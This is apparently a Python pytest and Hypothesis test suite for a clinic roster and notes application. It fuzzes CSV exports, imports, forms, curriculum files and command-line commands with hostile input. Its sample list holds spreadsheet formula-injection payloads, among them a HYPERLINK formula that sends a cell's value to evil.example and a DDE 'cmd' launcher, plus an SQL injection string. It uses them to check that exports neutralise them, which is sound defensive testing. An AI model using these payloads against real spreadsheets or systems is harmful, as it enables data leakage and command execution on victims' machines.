"""Hostile input gets a sentence: every import, form and command, with text no one meant.

Each case ends in a saved value that reads back as typed, or in one sentence (a
``UserFacingError``, or exit code 1–3 on the command line), never a traceback or "failed
unexpectedly".
"""

from __future__ import annotations

import contextlib
import io
import os
import string
from datetime import date
from pathlib import Path

import pytest
from demo_world import Demo
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from facilitator.cli import main
from facilitator.core import limits
from facilitator.core.changes import UserFacingError
from facilitator.core.csv_safe import safe_cell, to_text
from facilitator.core.loader import CurriculumError, check_curriculum, load_curriculum_file
from facilitator.core.reports import AttendanceReport, SignInSheet, attendance_csv, sign_in_csv
from facilitator.core.roster import GroupDraft, ParticipantDraft, RosterFileError, parse_roster, read_csv

HOSTILE_TEXT = st.one_of(
    st.text(max_size=300),
    st.sampled_from([
        '=HYPERLINK("http://evil.example/?"&E3,"Quinn")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
        "\t=1+1", "\r=1+1", "\uff1d1+1", "\x00", "a\x00b", "x" * 100_000, "'; DROP TABLE participant; --",
        "<font name=x>", "\u202eevil", "🙂" * 300, "0001-01-01", "9999-12-31", " ", "",
    ]),
)
FAST = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                        HealthCheck.too_slow])

# -- CSV exports --------------------------------------------------------------------------------


@given(HOSTILE_TEXT)
def test_no_csv_cell_starts_a_formula(name: str) -> None:
    import csv

    sheet = SignInSheet("Clinic", name, date(2026, 3, 2), "18:00–21:00", name, (name, "Ann"))
    for text in (sign_in_csv(sheet), to_text(["h"], [[name, 5, -3]])):
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                assert cell[:1] not in "=+@\t\r\uff1d\uff0b\uff20" or cell == "", cell
                assert not cell.startswith("-") or cell == "-3", cell


def test_the_known_formula_attacks_become_text() -> None:
    for attack in ('=HYPERLINK("http://x"&E3,"Quinn")', "+1", "-1+1", "@A1", "\t=1", "\r=1", "\uff1d1", "\uff20A1"):
        assert safe_cell(attack) == "'" + attack
    assert safe_cell(-3) == -3 and safe_cell("Quinn") == "Quinn"
    report = AttendanceReport("C", "=HYPERLINK(1)", "@R1", date(2026, 1, 1), date(2026, 1, 2), (), (), 9.0,
                              __import__("datetime").datetime(2026, 1, 2), "UTC")
    assert "'=HYPERLINK(1)" in attendance_csv(report) or "=HYPERLINK" not in attendance_csv(report)


def test_every_csv_export_uses_the_one_writer() -> None:
    root = Path(__file__).resolve().parents[2] / "facilitator"
    writers = [p.relative_to(root).as_posix() for p in root.rglob("*.py") if "csv.writer(" in p.read_text("utf-8")]
    assert writers == ["core/csv_safe.py"]


# -- roster import ------------------------------------------------------------------------------


@given(st.text(max_size=2000))
def test_any_roster_text_is_read_or_refused_with_a_sentence(text: str) -> None:
    try:
        plan = parse_roster(read_csv(text))
    except RosterFileError as exc:
        assert str(exc)
        return
    for _line, draft in plan.drafts:
        assert not draft.problems()
        assert limits.EARLIEST_DATE <= draft.program_start <= limits.LATEST_DATE


@given(st.lists(st.tuples(HOSTILE_TEXT, HOSTILE_TEXT, HOSTILE_TEXT, HOSTILE_TEXT), min_size=1, max_size=3))
def test_hostile_roster_rows_are_named_by_line(rows: list[tuple[str, str, str, str]]) -> None:
    out = io.StringIO()
    import csv

    w = csv.writer(out)
    w.writerow(["record_number", "preferred_name", "legal_name", "date_of_birth", "program_start"])
    for record, preferred, legal, born in rows:
        w.writerow([record, preferred, legal, born, "2026-03-02"])
    try:
        plan = parse_roster(read_csv(out.getvalue()))
    except RosterFileError:
        return
    for error in plan.errors:
        assert error.line >= 1 and error.message and len(error.message) < 2000


def test_a_birth_date_in_the_year_one_and_a_start_in_9999_are_refused() -> None:
    text = "record_number,preferred_name,legal_name,date_of_birth,program_start\nR1,Ann,Ann L,0001-01-01,2026-03-02\n" \
           "R2,Bo,Bo L,1990-01-01,9999-12-31\n"
    plan = parse_roster(read_csv(text))
    assert [e.line for e in plan.errors] == [2, 3]
    assert "between 1900 and 2100" in plan.errors[0].message and "between 1900 and 2100" in plan.errors[1].message


# -- forms: participant and group drafts, through the service into the database ----------------


@FAST
@given(record=HOSTILE_TEXT, preferred=HOSTILE_TEXT, legal=HOSTILE_TEXT, language=HOSTILE_TEXT,
       born=st.one_of(st.none(), st.dates()), start=st.dates())
def test_a_participant_form_saves_or_says_why(engine, shipped_library, record, preferred, legal, language, born,  # type: ignore[no-untyped-def]
                                              start) -> None:
    from roster_world import services

    roster, _attendance, _settings, _work = services(engine, shipped_library, zone="")
    draft = ParticipantDraft(record, preferred, legal, start, born, language=language)
    try:
        saved = roster.create_participant(draft)
    except UserFacingError as exc:
        assert str(exc).endswith(".") and "\x00" not in str(exc)
        return
    assert (saved.record_number, saved.preferred_name, saved.legal_name) == (
        record.strip(), preferred.strip(), legal.strip())


@FAST
@given(name=HOSTILE_TEXT, room=HOSTILE_TEXT, start=st.dates())
def test_a_group_form_saves_or_says_why(engine, shipped_library, name, room, start) -> None:  # type: ignore[no-untyped-def]
    from roster_world import services

    from facilitator.core.attendance import Track, WeeklySchedule
    from facilitator.core.curriculum import GroupType

    roster, _attendance, _settings, _work = services(engine, shipped_library, zone="")
    schedule = WeeklySchedule((0,), __import__("datetime").time(18, 0), 90)
    draft = GroupDraft(name, list(GroupType)[0], Track((), True), schedule, start, room=room)
    try:
        saved = roster.create_group(draft)
    except UserFacingError as exc:
        assert str(exc)
        return
    assert saved.name == name.strip() or saved.name == name


# -- curriculum files ---------------------------------------------------------------------------


def test_an_oversized_curriculum_file_is_refused_by_name_before_it_is_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    big = tmp_path / "huge.yaml"
    with open(big, "wb") as fh:
        fh.truncate(limits.CURRICULUM_FILE_MAX_BYTES + 1)  # sparse: no disk used

    def never(*_args: object, **_kwargs: object) -> None:
        raise AssertionError("the oversized file was parsed")

    monkeypatch.setattr("facilitator.core.loader._Checker.decode", never)
    with pytest.raises(CurriculumError) as refused:
        load_curriculum_file(big)
    message = str(refused.value)
    assert "huge.yaml" in message and "5 MB" in message


@FAST
@given(st.one_of(st.text(max_size=500), st.binary(max_size=500),
                 st.text(alphabet=string.printable, max_size=500).map(lambda t: "id: x\n" + t)))
def test_any_curriculum_text_is_loaded_or_listed_as_problems(data: str | bytes) -> None:
    curriculum, problems = check_curriculum(data, "fuzz.yaml")
    assert curriculum is not None or problems


# -- commands -----------------------------------------------------------------------------------

COMMANDS = [
    ["report", "attendance"],
    ["notes", "export"],
    ["roster", "list"],
    ["roster", "import"],
    ["audit", "export"],
    ["audit", "verify"],
    ["users", "list"],
    ["users", "create"],
    ["restore"],
    ["backup"],
    ["users", "disable"],
    ["users", "enable"],
    ["users", "reset"],
    ["users", "password"],
    ["users", "init"],
    ["audit", "checkpoint"],
    ["audit", "guards"],
    ["curricula", "list"],
    ["curricula", "check"],
    ["handouts"],
]
ARG = st.one_of(
    HOSTILE_TEXT.filter(lambda t: len(t) < 5000),
    st.sampled_from(["--participant", "--from", "--to", "--yes", "-o", "--format", "--meeting", "--name", "--role",
                     "--by", "--action", "--participant-id", "--confirm-clinic", "--export", "--repair", "--guide", "--cards",
                     "--workbook", "--safety-protocol", "--credentials", "--copies", "--large-print", "--language", "--clinic-name",
                     "--staff-id", "skills-core", "1", "a" * 5000, "0001-01-01", "9999-12-31", "2026-03-01", "1899-12-31",
                     "-1", "x.pdf", "\x00", str(10**30), "99999999999"]),
)


@pytest.mark.parametrize("command", COMMANDS, ids=[" ".join(c) for c in COMMANDS])
def test_fuzzed_command_lines_end_in_a_sentence(demo: Demo, tmp_path_factory: pytest.TempPathFactory,
                                                command: list[str]) -> None:
    folder = tmp_path_factory.mktemp("fuzz")
    os.environ["FACILITATOR_USER"], os.environ["FACILITATOR_PASSWORD"] = "admin", "demo"
    try:
        _fuzz(demo, folder, command)
    finally:
        del os.environ["FACILITATOR_USER"], os.environ["FACILITATOR_PASSWORD"]


def _fuzz(demo: Demo, folder: Path, command: list[str]) -> None:
    @settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
    @given(st.lists(ARG, max_size=7))
    def run(extra: list[str]) -> None:
        cwd = os.getcwd()
        os.chdir(folder)  # any file a command writes lands here
        err = io.StringIO()
        try:
            with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
                try:
                    code = main(demo.argv(*command, *extra))
                except SystemExit as exc:  # argparse: a usage sentence, exit 2
                    code = exc.code if isinstance(exc.code, int) else 2
        finally:
            os.chdir(cwd)
        said = err.getvalue()
        assert code in (0, 1, 2, 3), (code, said)
        assert "unexpectedly" not in said and "Traceback" not in said, said
        if code:
            assert said.strip(), "a failure says why"

    run()


@pytest.mark.parametrize("content", [b"", b"not a database", b"SQLite format 3\x00" + b"\xff" * 5000],
                         ids=["empty", "text", "damaged"])
def test_a_restore_from_a_file_that_is_no_backup_is_a_sentence(
    demo: Demo, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, content: bytes
) -> None:
    monkeypatch.setenv("FACILITATOR_USER", "admin")
    monkeypatch.setenv("FACILITATOR_PASSWORD", "demo")
    bad = tmp_path / "backup.sqlite"
    bad.write_bytes(content)
    code = main(demo.argv("restore", str(bad)))
    said = capsys.readouterr().err
    assert code in (1, 2, 3) and said.strip() and "unexpectedly" not in said, said


@pytest.mark.parametrize("name", ["a" * 5000, "folder/" + "b" * 300 + "/backup.sqlite", "missing/backup.sqlite"],
                         ids=["name too long", "folder name too long", "no such folder"])
def test_a_path_the_system_cannot_hold_is_a_sentence_for_backup_and_restore(
    demo: Demo, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    from facilitator.store.backup import BackupError, check_backup, take_backup

    with pytest.raises(BackupError) as refused:
        check_backup(tmp_path / name)
    assert "unexpectedly" not in str(refused.value) and len(str(refused.value)) < 300
    monkeypatch.setenv("FACILITATOR_USER", "admin")
    monkeypatch.setenv("FACILITATOR_PASSWORD", "demo")
    code = main(demo.argv("restore", str(tmp_path / name)))
    said = capsys.readouterr().err
    assert code in (1, 2, 3) and said.strip() and "unexpectedly" not in said, said
    if name.startswith("missing"):
        return  # a backup into a folder not there yet makes the folder
    code = main(demo.argv("backup", str(tmp_path / name)))
    said = capsys.readouterr().err
    assert code == 3 and "the file name is too long" in said and "unexpectedly" not in said, said
    source = tmp_path / "source.sqlite"
    source.write_bytes(b"")
    with pytest.raises(BackupError, match="the file name is too long"):
        take_backup(source, tmp_path / name)


@pytest.mark.parametrize("command", [["report", "attendance"], ["audit", "export"]])
def test_a_full_disk_on_the_command_line_is_a_sentence(
    demo: Demo, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
    command: list[str],
) -> None:
    import errno

    def no_space(*_args: object, **_kwargs: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    # Every protected file goes through the one helper; a full disk fails its first write.
    monkeypatch.setattr("facilitator.core.files.write_private", no_space)
    monkeypatch.setattr("facilitator.store.db.private_file", no_space)
    monkeypatch.setenv("FACILITATOR_USER", "admin")
    monkeypatch.setenv("FACILITATOR_PASSWORD", "demo")
    out = tmp_path / "out.csv"
    extra = ["--participant", demo.mine, "--from", "2026-01-01", "--to", "2026-02-01"] if command[0] == "report" else []
    code = main(demo.argv(*command, *extra, "-o", str(out)))
    said = capsys.readouterr().err
    assert code == 3 and "the disk is full" in said and "unexpectedly" not in said, said
    assert not out.exists() and not list(tmp_path.glob(".*part"))


# -- notes: sections and observations, through the service into the database ------------------


def test_note_sections_and_observations_save_or_say_why(engine, shipped_library) -> None:  # type: ignore[no-untyped-def]
    from datetime import timedelta

    from notes_world import MEETING_START, build_world

    from facilitator.core.clock import FakeClock
    from facilitator.store.audit import AuditLog
    from facilitator.store.notes import NotesService
    from facilitator.store.unit_of_work import Work

    class Settings(dict):
        def get(self, key: str, default: str = "") -> str:  # type: ignore[override]
            return super().get(key, default)

    world = build_world(engine)
    clock = FakeClock(MEETING_START + timedelta(hours=2))
    work = Work(engine, AuditLog(engine, clock), clock, workstation="office")
    work.connect_identity()
    service = NotesService(work, Settings(clinic_time_zone="America/Chicago"), shipped_library)
    note = service.start_meeting_notes(world.facilitator, world.meeting_id).individual[0]
    pasted = st.one_of(HOSTILE_TEXT, st.sampled_from(["n" * 20_001, "line\n" * 4_000, "a\x00b", "\x1b[31m"]))

    @FAST
    @given(section=st.sampled_from([s.key for s in note.sections]), text=pasted, observation=HOSTILE_TEXT)
    def run(section: str, text: str, observation: str) -> None:
        current = service.note(world.facilitator, note.id)
        try:
            service.save_draft(world.facilitator, note.id, dict(current.content, **{section: text}), current.version)
        except UserFacingError as exc:
            assert str(exc).endswith(".") and len(str(exc)) < 300, str(exc)
            assert service.note(world.facilitator, note.id).content == current.content, "nothing half-saved"
        else:
            assert service.note(world.facilitator, note.id).content[section] == text
        try:
            service.add_observation(world.facilitator, world.meeting_id, note.participant_id, observation)
        except UserFacingError as exc:
            assert str(exc).endswith(".") and len(str(exc)) < 300, str(exc)

    run()
